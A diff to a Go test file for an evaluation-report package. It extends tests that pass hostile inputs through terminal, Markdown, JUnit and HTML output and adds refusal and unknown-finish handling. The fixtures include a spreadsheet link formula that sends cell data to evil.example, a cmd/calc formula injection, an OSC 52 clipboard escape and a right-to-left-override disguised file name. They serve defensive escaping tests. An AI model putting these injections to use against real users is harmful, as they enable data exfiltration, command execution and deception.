@@ -198,21 +198,22 @@ func TestHostileChangelogJSONKeepsTheData(t *testing.T) {
 }
 
 // hostileEval is a run whose dataset, models, items, answers, reasons and
-// errors are all hostile.
+// errors are all hostile; the hostile answer is a refusal, and one answer
+// ended for a reason digest has no word for, itself hostile.
 func hostileEval(t *testing.T) (*report.Eval, []report.Result) {
 	modelA, modelB := "evil"+hostileTitle+"|model", "# model`b`"+hostileIsolate
 	results := []report.Result{
 		{Model: modelA, Item: "q1" + hostileRTL, Prompt: hostileText, Expected: []string{"=HYPERLINK(\"https://evil.example/?\"&A1)", hostileClear},
-			Answer: hostileSummary, Reasons: []string{"exact: got " + hostileOSC52, "| broken | cell"}},
+			Answer: hostileSummary, Reasons: []string{"exact: got " + hostileOSC52, "| broken | cell"}, Finish: report.FinishRefusal},
 		{Model: modelA, Item: "q2", Answer: "@SUM(1+1)*cmd|' /C calc'!A0", Pass: true, Score: 1},
 		{Model: modelB, Item: "q1" + hostileRTL, Error: "500: " + hostileText + "\n<html><body>gateway</body></html>"},
-		{Model: modelB, Item: "q2\n## heading", Answer: "```\nunclosed " + hostileIsolate},
+		{Model: modelB, Item: "q2\n## heading", Answer: "```\nunclosed " + hostileIsolate, Finish: hostileRTL + "|`x`"},
 	}
 	e := &report.Eval{
 		RunID:   "r1" + hostileTags,
 		Dataset: "data/" + hostileRTL + "<script>.jsonl",
 		Models: []report.ModelStats{
-			{Model: modelA, Items: 2, Passed: 1, Accuracy: 0.5},
+			{Model: modelA, Items: 2, Passed: 1, Accuracy: 0.5, Refused: 1},
 			{Model: modelB, Items: 2, Errors: 1},
 		},
 		Pairs:   []report.Pair{{A: modelA, B: modelB, AOnly: 1, P: 1}},
@@ -243,7 +244,7 @@ func TestHostileEvalTerminalAndMarkdown(t *testing.T) {
 				t.Errorf("structure changed: %v\n%s", nodes, out)
 			}
 			// The models' header and two rows, the failures' header and three rows.
-			if nodes["TableHeader"] != 2 || nodes["TableRow"] != 2+3 || nodes["TableCell"] != 13*3+4*4 {
+			if nodes["TableHeader"] != 2 || nodes["TableRow"] != 2+3 || nodes["TableCell"] != 15*3+4*4 {
 				t.Errorf("cells moved: %d headers, %d rows, %d cells\n%s", nodes["TableHeader"], nodes["TableRow"], nodes["TableCell"], out)
 			}
 			// <details>, <summary> and </details> are the report's own.
@@ -253,6 +254,12 @@ func TestHostileEvalTerminalAndMarkdown(t *testing.T) {
 			for _, kind := range []string{"FencedCodeBlock", "CodeBlock", "RawHTML", "Image", "Link", "Blockquote", "Emphasis", "CodeSpan", "Strikethrough"} {
 				if nodes[kind] > 0 {
 					t.Errorf("%d %s in the report:\n%s", nodes[kind], kind, out)
+				}
+			}
+			// The refusal's cell says it was one; the unknown finish is text.
+			for _, want := range []string{`| refused: exact: got \\x1b\]52;c;`, "| finish: invoice\\_\\\\u202egnp.exe\\|\\`x\\` |"} {
+				if !strings.Contains(string(out), want) {
+					t.Errorf("no %q in:\n%s", want, out)
 				}
 			}
 		}
@@ -330,14 +337,18 @@ func TestHostileEvalJUnitAndHTML(t *testing.T) {
 			if c.Error != nil {
 				read = append(read, c.Error.Message, c.Error.Text)
 			}
+			read = append(read, c.SystemOut)
 		}
 	}
 	checkTerminalSafe(t, "junit, read back", []byte(strings.Join(read, "\n")))
 	if c := doc.Suites[0].Cases[0]; c.Name != `q1invoice_\u202egnp.exe` || c.Failure == nil || !strings.Contains(c.Failure.Text, `\x1b]52;c;`) {
 		t.Errorf("the failure does not show its escapes: %+v", c)
 	}
-	if c := doc.Suites[1].Cases[1]; c.Name != "q2 ## heading" {
-		t.Errorf("a name with a line break reads %q", c.Name)
+	if c := doc.Suites[0].Cases[0]; !strings.HasPrefix(c.Failure.Message, `refused: exact: got \x1b]52;c;`) || !strings.HasPrefix(c.SystemOut, "refused") {
+		t.Errorf("the refusal does not say so: %+v", c)
+	}
+	if c := doc.Suites[1].Cases[1]; c.Name != "q2 ## heading" || !strings.Contains(c.Failure.Message, `finish: invoice_\u202egnp.exe|`+"`x`") {
+		t.Errorf("a name with a line break reads %q, or the unknown finish is not text: %+v", c.Name, c)
 	}
 
 	e, _ = hostileEval(t)
@@ -393,7 +404,7 @@ func TestHostileLongAnswer(t *testing.T) {
 	e := &report.Eval{Models: []report.ModelStats{{Model: "m", Items: 1}}, Results: slices.Values(rs)}
 	out := write(t, report.EvalMarkdown{}.WriteEval, e)
 	checkTerminalSafe(t, "markdown", out)
-	if nodes := markdownNodes(t, out); nodes["TableRow"] != 2 || nodes["TableCell"] != 13*2+4*2 {
+	if nodes := markdownNodes(t, out); nodes["TableRow"] != 2 || nodes["TableCell"] != 15*2+4*2 {
 		t.Errorf("rows %d, cells %d", nodes["TableRow"], nodes["TableCell"])
 	}
 	e.Results = slices.Values(rs)
